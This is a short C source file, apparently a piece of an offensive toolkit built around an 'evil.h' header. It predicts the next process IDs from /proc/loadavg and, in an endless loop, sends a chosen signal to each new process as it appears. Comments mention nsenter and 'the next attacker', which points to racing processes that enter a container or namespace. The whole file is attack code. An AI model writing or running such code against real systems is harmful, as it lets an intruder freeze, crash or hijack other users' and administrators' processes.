/* Sends a signal to whatever comes in, so that it stays, or dumps core. */
#include <signal.h>

#include "evil.h"

/* The last number that a process of this pid namespace was given. */
static int last_pid(void)
{
	FILE *file = fopen("/proc/loadavg", "r");
	int last = -1;

	if (file == NULL || fscanf(file, "%*s %*s %*s %*s %d", &last) != 1)
		die("/proc/loadavg");
	fclose(file);
	return last;
}

/* hold SIGNAL: who comes next has the next number. No look at who it is would be as quick. */
int hold(char **arg)
{
	const int sig = atoi(arg[0]);

	prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0); /* with nsenter(1), or the next attacker would be hit */
	puts("begun");
	for (;;) {
		int next = last_pid() + 1;

		for (int i = 0; i < 2000; i++)
			if (kill(next, sig) == 0)
				printf("sent %d to %d\n", sig, next++);
	}
}
